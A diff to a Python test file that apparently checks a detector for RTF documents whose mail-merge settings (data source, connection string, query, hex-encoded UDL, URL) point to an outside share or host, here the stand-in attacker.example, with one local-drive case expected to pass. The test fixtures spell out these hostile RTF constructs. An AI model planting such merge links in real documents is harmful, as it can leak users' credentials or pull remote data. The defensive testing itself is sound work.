@@ -261,6 +261,39 @@ BASES: list[Case] = [
      partial(_rtf, rb"{\info{\*\hlinkbase https://intranet.example/docs/}}"), False),
 ]  # fmt: skip
 
+_UDL = "Provider=Microsoft.ACE.OLEDB.12.0;Data Source=\\\\attacker.example\\s\\list.xlsx"
+
+
+def _rtf_merge(*destinations: bytes) -> bytes:
+    """A letter whose mail merge (as Word saves one) has these destinations."""
+    merge = rb"{\*\mailmerge\mmmaintypeletters\mmlinktoquery\mmdatatypeodso\mmshowdata"
+    return _rtf(merge + b"".join(destinations) + b"}")
+
+
+MAIL_MERGES: list[Case] = [
+    ("rtf-merge-source-on-a-share", RTF,
+     partial(_rtf_merge, rb"{\*\mmdatasource \\\\attacker.example\\s\\list.xlsx}"), True),
+    ("rtf-merge-connection-to-a-share", RTF,
+     partial(_rtf_merge, rb"{\*\mmconnectstr Provider=Microsoft.ACE.OLEDB.12.0;User ID=Admin;"
+                         rb"Data Source=\\\\attacker.example\\s\\list.xlsx;Mode=Read}"), True),
+    ("rtf-merge-query-naming-a-share", RTF,
+     partial(_rtf_merge,
+             rb"{\*\mmquery SELECT * FROM `\\\\attacker.example\\s\\list.xlsx`.`Sheet1$`}"),
+     True),
+    ("rtf-merge-udl-as-hex", RTF,
+     partial(_rtf_merge, rb"{\*\mmodso{\*\mmodsoudldata " + _UDL.encode("utf-16-le").hex().encode()
+                         + b"}}"), True),
+    ("rtf-merge-source-at-a-url", RTF,
+     partial(_rtf_merge, rb"{\*\mmdatasource https://attacker.example/list.xlsx}"), True),
+    # Word's own, from a list on the author's drive
+    ("rtf-merge-on-the-local-drive", RTF,
+     partial(_rtf_merge,
+             rb"{\*\mmconnectstr Provider=Microsoft.ACE.OLEDB.12.0;User ID=Admin;Data Source="
+             rb"C:\\Users\\me\\Documents\\list.xlsx;Mode=Read}"
+             rb"{\*\mmquery SELECT * FROM `Sheet1$`}"
+             rb"{\*\mmdatasource C:\\Users\\me\\Documents\\list.xlsx}"), False),
+]  # fmt: skip
+
 RTF_PICTURES: list[Case] = [
     ("rtf-fill-picture-linked-to-share", RTF,
      partial(_rtf_shape, b"fillBlipName", _RTF_SHARE, 10), True),
@@ -279,7 +312,7 @@ RTF_PICTURES: list[Case] = [
      partial(_rtf, rb"{\*\template C:\\Users\\me\\Templates\\Letter.dotm}"), False),
 ]  # fmt: skip
 
-CASES = FORMULAS + FIELDS + DRAWINGS + BASES + RTF_PICTURES
+CASES = FORMULAS + FIELDS + DRAWINGS + BASES + RTF_PICTURES + MAIL_MERGES
 _PARAMS = [pytest.param(case, id=case[0]) for case in CASES]
 
 
